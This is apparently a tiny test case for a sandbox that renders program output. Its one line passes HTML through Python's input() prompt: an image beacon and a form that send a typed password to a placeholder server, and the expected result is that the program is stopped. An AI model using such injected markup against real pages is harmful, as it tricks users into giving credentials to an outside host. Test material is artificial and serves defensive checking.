# Tries to write elements into the page by the words that ask for a line, and waits for what the reader types.
# ends: stopped
input('<form action="http://SERVER_HOST:SERVER_PORT/"><img src="http://SERVER_HOST:SERVER_PORT/prompt">Password? ')
